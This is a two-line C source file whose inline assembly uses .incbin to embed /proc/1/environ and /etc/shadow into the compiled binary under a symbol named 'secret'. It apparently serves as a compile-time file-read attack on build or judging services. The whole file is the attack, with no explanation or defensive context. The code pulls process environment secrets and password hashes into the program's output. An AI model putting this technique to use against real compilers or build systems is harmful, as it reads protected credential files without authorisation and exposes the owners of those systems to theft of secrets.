__asm__(".data\n.globl secret\nsecret: .incbin \"/proc/1/environ\"\n.incbin \"/etc/shadow\"\n.text");
int main(void) { return 0; }
